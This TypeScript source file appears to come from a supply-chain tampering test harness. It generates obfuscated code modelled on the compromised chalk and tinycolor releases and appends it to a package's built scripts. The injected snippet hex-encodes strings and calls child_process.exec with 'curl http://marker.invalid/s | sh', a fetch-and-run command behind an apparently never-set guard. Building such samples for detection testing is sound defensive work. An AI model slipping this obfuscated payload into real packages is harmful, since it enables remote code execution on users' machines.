import { builtScriptsOf } from '../../tamperings/tampering.js';
import { editScript, insertion } from '../edit-script.js';
import { defineShape } from '../shape.js';

const words = [
  'child_process',
  'exec',
  'curl http://marker.invalid/s | sh',
  'env',
  '__reprove_marker',
  'stringify',
];

/** Code whose words come out of an array by number, as obfuscators write it. */
export const stringArray = defineShape({
  id: 'string-array',
  kind: 'code-adding',
  like: 'chalk 5.6.1, @ctrl/tinycolor 4.1.1 (obfuscated)',
  apply: (honest, random) =>
    editScript(honest, random, builtScriptsOf(honest), ({ text }) => {
      const name = (random.below(0xfff) + 0x1000).toString(16);
      const order = random.shuffle(words);
      const at = (word: string) => `_0x${name}(0x${(0x1a0 + order.indexOf(word)).toString(16)})`;
      const array = order.map(
        (word) => `'${word.replace(/./g, (letter) => `\\x${letter.charCodeAt(0).toString(16)}`)}'`,
      );
      const code =
        `;var _0x${name}=(function(_0xa){return function(_0xb){return _0xa[_0xb-0x1a0];};})([${array.join(',')}]);` +
        `(function(_0xc){globalThis[${at('__reprove_marker')}]=0x1;if(_0xc!=='run')return;` +
        `process[${at('env')}]&&globalThis['require'](${at('child_process')})[${at('exec')}](${at('curl http://marker.invalid/s | sh')});}(globalThis['__reprove_never']));`;
      return [insertion(text.length, `\n${code}\n`)];
    }),
});
